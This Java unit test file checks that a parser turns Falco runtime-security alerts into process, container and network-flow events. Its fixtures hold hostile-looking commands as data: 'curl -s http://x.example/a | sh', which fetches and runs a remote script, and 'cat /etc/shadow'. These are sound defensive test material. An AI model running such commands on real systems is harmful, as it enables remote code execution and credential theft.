package io.tallyman.source.sensor;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.event.ContainerObserved;
import io.tallyman.event.ContainerReference;
import io.tallyman.event.Destination;
import io.tallyman.event.Digest;
import io.tallyman.event.EventTime;
import io.tallyman.event.NetworkFlow;
import io.tallyman.event.PodReference;
import io.tallyman.event.ProcessExecuted;
import io.tallyman.event.RecordsLost;
import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FalcoSourceTest {

    private static final FalcoSource FALCO = new FalcoSource();
    private static final String HEX = "3f".repeat(32);

    private static String alert(String fields) {
        return """
                {"hostname":"Node-7","output":"13:05:01.000000001: Notice a text that nobody reads","priority":"Notice",
                 "rule":"Something in a container","source":"syscall","tags":["container"],
                 "time":"2026-11-20T13:05:01.000000001Z","output_fields":{%s}}""".formatted(fields);
    }

    @Test
    void anExecutionNamesContainerPodAndImage() {
        var record = alert("""
                "evt.time":1795179901000000001,"evt.type":"execve","container.id":"3f3f3f3f3f3f","container.full_id":"%s",
                "container.name":"web","container.image.repository":"registry.example/shop/web","container.image.tag":"2.1",
                "container.image.digest":"sha256:%s","k8s.ns.name":"shop","k8s.pod.name":"web-0","k8s.pod.uid":"u-1",
                "proc.name":"curl","proc.exe":"./curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s http://x.example/a",
                "proc.pid":4711,"proc.ppid":4700,"proc.pname":"sh","user.name":"<NA>","user.uid":0
                """.formatted(HEX, HEX));
        var executed = Sensors.only(ProcessExecuted.class, FALCO, record);
        var container = new ContainerReference(HEX, "web", new PodReference("shop", "web-0", "u-1"));
        assertThat(executed.reported()).isEqualTo(container);
        assertThat(executed.arguments()).containsExactly("./curl", "-s", "http://x.example/a");
        assertThat(executed.executable()).isEqualTo("/usr/bin/curl");
        assertThat(executed.pid()).isEqualTo(4711);
        assertThat(executed.parentPid()).isEqualTo(4700);
        assertThat(executed.user()).isEqualTo("0");
        assertThat(executed.origin().host()).isEqualTo("node-7");
        assertThat(executed.time())
                .isEqualTo(new EventTime(Instant.parse("2026-11-20T13:05:01.000000001Z"), EventTime.NANOSECOND));
        var observed = Sensors.only(ContainerObserved.class, FALCO, record);
        assertThat(observed.reported()).isEqualTo(container);
        assertThat(observed.image()).isEqualTo("registry.example/shop/web:2.1");
        assertThat(observed.digests()).containsExactly(Digest.repository("sha256:" + HEX));
    }

    @ParameterizedTest
    @ValueSource(strings = {"815508", "\"815508\""})
    void droppedSystemCallsAreCounted(String drops) {
        var lost = Sensors.only(RecordsLost.class, FALCO, """
                {"hostname":"Node-7","output":"Falco internal: syscall event drop. 815508 system calls dropped in last second.",
                 "priority":"Debug","rule":"Falco internal: syscall event drop","source":"internal",
                 "time":"2026-11-20T13:05:01Z","output_fields":{"ebpf_enabled":"1","n_drops":%s,"n_evts":"2270350"}}""".formatted(drops));
        assertThat(lost.records()).isEqualTo(815_508);
        assertThat(lost.duration()).isEqualTo(1000);
        assertThat(lost.time().instant()).isEqualTo(Instant.parse("2026-11-20T13:05:01Z"));
        assertThat(lost.origin().host()).isEqualTo("node-7");
    }

    @Test
    void aConnectionGoesToTheFarEnd() {
        var record = alert("""
                "evt.type":"connect","evt.res":"EINPROGRESS","container.id":"3f3f3f3f3f3f","proc.pid":12,"fd.lip":"10.1.0.9",
                "fd.lport":40122,"fd.rip":"203.0.113.9","fd.rport":3333,"fd.sip":"203.0.113.9","fd.sport":3333,"fd.l4proto":"tcp"
                """);
        var flow = Sensors.only(NetworkFlow.class, FALCO, record);
        assertThat(flow.destination()).isEqualTo(Destination.of("203.0.113.9", 3333));
        assertThat(flow.source()).isEqualTo("10.1.0.9");
        assertThat(flow.sourcePort()).isEqualTo(40122);
        assertThat(flow.protocol()).isEqualTo("tcp");
        assertThat(flow.reported().id()).isEqualTo("3f3f3f3f3f3f");
        assertThat(Sensors.events(FALCO, record)).hasSize(1);
    }

    @Test
    void theDescriptorsNameServesWhereNoFieldTellsTheFarEnd() {
        var flow = Sensors.only(
                NetworkFlow.class,
                FALCO,
                alert("\"evt.type\":\"connect\",\"fd.name\":\"10.1.0.9:40122->203.0.113.9:3333\""));
        assertThat(flow.destination()).isEqualTo(Destination.of("203.0.113.9", 3333));
    }

    @Test
    void aConnectionThatFailedIsNone() {
        var record = alert("\"evt.type\":\"connect\",\"evt.res\":\"ENETUNREACH\",\"fd.rip\":\"203.0.113.9\"");
        assertThat(Sensors.events(FALCO, record)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"\"", "\"host\"", "null", "\"<NA>\""})
    void theHostIsNoContainer(String id) {
        var record =
                alert("\"container.id\":%s,\"container.image.repository\":null,\"proc.cmdline\":\"id\"".formatted(id));
        assertThat(Sensors.events(FALCO, record)).hasSize(1);
        assertThat(Sensors.only(ProcessExecuted.class, FALCO, record).reported())
                .isEqualTo(ContainerReference.NONE);
    }

    @Test
    void aShellsScriptStaysOneArgument() {
        var record = alert("\"proc.cmdline\":\"bash -ec curl -s http://x.example/a | sh\"");
        assertThat(Sensors.only(ProcessExecuted.class, FALCO, record).arguments())
                .containsExactly("bash", "-ec", "curl -s http://x.example/a | sh");
    }

    @Test
    void anAlertAboutAFileOnlyTellsOfTheContainer() {
        var record = alert("""
                "evt.type":"openat","container.id":"3f3f3f3f3f3f","container.name":"k8s_web_web-0_shop_u-1_0",
                "container.image.repository":"web","proc.cmdline":"cat /etc/shadow"
                """);
        assertThat(Sensors.events(FALCO, record)).hasSize(1);
        assertThat(Sensors.only(ContainerObserved.class, FALCO, record)
                        .reported()
                        .name())
                .isEqualTo("web");
    }

    @Test
    void whatCannotBeReadIsRejected() {
        assertThat(Sensors.rejection(FALCO, "13:05:01.000000001: Notice A shell was spawned (container_id=3f3f)"))
                .isEqualTo("The record is no JSON object; expected a Falco alert.");
        assertThat(Sensors.rejection(FALCO, "{\"rule\":\"x\",\"output_fields\":{\"evt.type\":\"execve\"}}"))
                .contains("neither evt.time");
        assertThat(Sensors.rejection(FALCO, "{\"rule\":\"x\"}")).contains("output_fields");
        assertThat(Sensors.rejection(FALCO, "{\"rule\":")).contains("not well-formed JSON");
    }
}
